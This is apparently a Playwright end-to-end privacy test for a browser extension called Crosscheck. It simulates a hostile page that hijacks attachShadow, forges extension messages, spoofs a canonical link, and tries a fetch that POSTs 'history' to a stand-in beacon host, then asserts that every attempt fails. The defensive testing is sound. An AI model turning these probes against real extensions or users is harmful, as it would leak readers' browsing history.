/**
 * What a hostile page can get out of Crosscheck in Chromium: nothing of the reader's history
 * that it did not contain itself, and no way to write into it.
 *
 * The reader has read the first demo article. A page on another site then carries the second
 * article's text (so its claims are corroborated by the first, and its hover cards quote the first
 * outlet's headline), names the first article's address as its own canonical one, and runs a
 * script that tries every door: patching `attachShadow` before the content script runs, posting
 * our message shapes to the window, opening cards with synthetic events and reading them, and
 * fetching the extension's files.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright';
import { loadDemo } from '../scripts/demo-server.mjs';
import {
  CHROME_DIST,
  historyUrls,
  inCard,
  launchChromium,
  openReport,
  routeDemo,
} from './chromium.ts';
import type { Extension, ExtraPages } from './chromium.ts';

const corpus = loadDemo();
const [first, second] = corpus.articles;
if (!first || !second) throw new Error('the demo needs at least two articles');

const HOSTILE_URL = 'https://hostile.example/news/probe';
/** Where the hostile page would like the extension's pages to send what they know. */
const BEACON_URL = 'https://hostile.example/beacon';

/** Runs in the page before anything of ours: keeps every shadow root and message it can. */
const HOSTILE_HEAD = `<script>
  window.caught = { roots: [], messages: [] };
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attach.call(this, { ...init, mode: 'open' });
    window.caught.roots.push(root);
    return root;
  };
  window.addEventListener('message', (event) => {
    window.caught.messages.push(JSON.stringify(event.data));
  });
</script>`;

/** The second article, with the hostile script, claiming to be the first article. */
function hostilePage(): string {
  const html = readFileSync(join(corpus.dir, second!.file), 'utf8');
  const canonical = /<link\s+rel="canonical"\s+href="[^"]*"\s*\/>/u;
  assert.match(html, canonical, 'the second demo page has no canonical link to replace');
  return html
    .replace(canonical, `<link rel="canonical" href="${first!.url}" />`)
    .replace(/<head>/iu, `<head>${HOSTILE_HEAD}`);
}

const extra: ExtraPages = new Map([
  [HOSTILE_URL, hostilePage],
  [BEACON_URL, () => 'received'],
]);

/** Runs in the page's own world, as the hostile page's script: everything it can reach. */
async function whatThePageSees(page: Page): Promise<string> {
  return page.evaluate(() => {
    const caught = (window as unknown as { caught: { roots: ShadowRoot[]; messages: string[] } })
      .caught;
    const host = document.querySelector('cc-card') as HTMLElement | null;
    const seen = [
      document.documentElement.textContent ?? '',
      document.body.innerText,
      host?.shadowRoot?.textContent ?? '',
      host?.innerText ?? '',
      ...caught.roots.map((root) => root.textContent ?? ''),
      ...caught.messages,
    ];
    for (const element of document.querySelectorAll('*')) {
      for (const attribute of element.attributes) seen.push(attribute.value);
    }
    return seen.join('\n');
  });
}

/** The report URLs the panel's History lists. */
async function listed(ext: Extension): Promise<string[]> {
  const panel = await ext.context.newPage();
  await panel.goto(ext.panelUrl);
  const urls = await historyUrls(panel);
  await panel.close();
  return urls;
}

describe('Crosscheck against a hostile page, in Chromium', { timeout: 120_000 }, () => {
  const profile = mkdtempSync(join(tmpdir(), 'crosscheck-e2e-privacy-'));
  let ext: Extension;
  let page: Page;
  const requested: string[] = [];

  before(async () => {
    ext = await launchChromium(profile);
    await routeDemo(ext.context, corpus, extra);
    ext.context.on('request', (request) => requested.push(request.url()));
    page = await ext.context.newPage();
    await page.goto(first.url);
    await page.waitForSelector('cc-mark[data-kind="claim"][data-status]', { timeout: 20_000 });
    await page.goto(HOSTILE_URL);
    await page.waitForSelector('cc-mark[data-kind="claim"][data-status="corroborated"]', {
      timeout: 20_000,
    });
  });

  after(async () => {
    await ext?.context.close();
    rmSync(profile, { recursive: true, force: true });
  });

  it('ships no door for pages: nothing web-accessible, no external messaging', () => {
    const manifest = JSON.parse(readFileSync(join(CHROME_DIST, 'manifest.json'), 'utf8')) as Record<
      string,
      unknown
    >;
    assert.equal(manifest.web_accessible_resources, undefined);
    assert.equal(manifest.externally_connectable, undefined);
  });

  it('lets the page neither message the extension nor load its files', async () => {
    const tried = await page.evaluate(async (id) => {
      const runtime = (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome
        ?.runtime;
      let fetched = 'refused';
      try {
        await fetch(`chrome-extension://${id}/src/sidepanel/index.html`);
        fetched = 'loaded';
      } catch {
        // what we want: the page cannot load the panel (nor learn that it exists)
      }
      return { sendMessage: typeof runtime?.sendMessage, fetched };
    }, ext.id);
    assert.deepEqual(tried, { sendMessage: 'undefined', fetched: 'refused' });
  });

  it('shows the hover card, quoting the history, where the page’s scripts cannot read it', async () => {
    const mark = page.locator('cc-mark[data-kind="claim"][data-status="corroborated"]').first();
    // A synthetic event, as the page's script can send: the card opens for it too.
    await mark.evaluate((element) =>
      element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })),
    );
    let card: string | null = null;
    for (let tries = 0; tries < 50 && !card?.includes(first.outlet); tries++) {
      await page.waitForTimeout(100);
      card = await inCard(page, (root) =>
        getComputedStyle(root.host).display === 'none' ? null : (root.textContent ?? ''),
      );
    }
    // The card does quote the reader's history: otherwise this test would prove nothing.
    assert.ok(card?.includes(first.outlet), `the card does not name ${first.outlet}: ${card}`);

    const seen = await whatThePageSees(page);
    assert.ok(seen.includes(second.title), 'the page could not even read its own headline');
    assert.ok(!seen.includes(first.outlet), `the page read "${first.outlet}" from the extension`);
    assert.ok(!seen.includes(first.title), 'the page read the first article’s headline');
  });

  it('ignores the page’s forged messages: the history stays as it was', async () => {
    const before = await listed(ext);
    await page.evaluate((victim) => {
      const forged = [
        { crosscheck: 1, method: 'tab/state', params: { tabId: 1 } },
        {
          crosscheck: 1,
          method: 'article/read',
          params: { article: { url: victim, source: 'Forger', title: 'Forged', body: 'Nothing.' } },
        },
        { crosscheck: 1, method: 'page/highlights', params: { visible: false } },
      ];
      for (const message of forged) window.postMessage(message, '*');
    }, first.url);
    await page.waitForTimeout(1_000);
    const seen = await whatThePageSees(page);
    assert.ok(!seen.includes(first.title), 'an answer to a forged message reached the page');
    assert.equal(
      await page.evaluate(() =>
        document.documentElement.getAttribute('data-crosscheck-highlights'),
      ),
      null,
      'a message posted by the page hid the highlights',
    );
    assert.deepEqual(await listed(ext), before);
  });

  it('keeps the page under its own address, not the first article’s it claimed', async () => {
    assert.deepEqual((await listed(ext)).sort(), [first.url, HOSTILE_URL].sort());
    const report = await openReport(ext, first.url);
    const title = await report.title();
    const text = (await report.textContent('body')) ?? '';
    await report.close();
    assert.ok(
      text.includes(first.title) || title.includes(first.title),
      'the first article’s report was replaced by the page’s',
    );
  });

  it('gives the extension’s own pages no way to send anything out', async () => {
    const panel = await openReport(ext, HOSTILE_URL);
    const sent = await panel.evaluate(async (beacon) => {
      try {
        await fetch(beacon, { method: 'POST', body: 'history' });
        return 'sent';
      } catch {
        return 'refused';
      }
    }, BEACON_URL);
    await panel.close();
    assert.equal(sent, 'refused');
    assert.ok(!requested.includes(BEACON_URL), 'a request reached the network');
  });
});
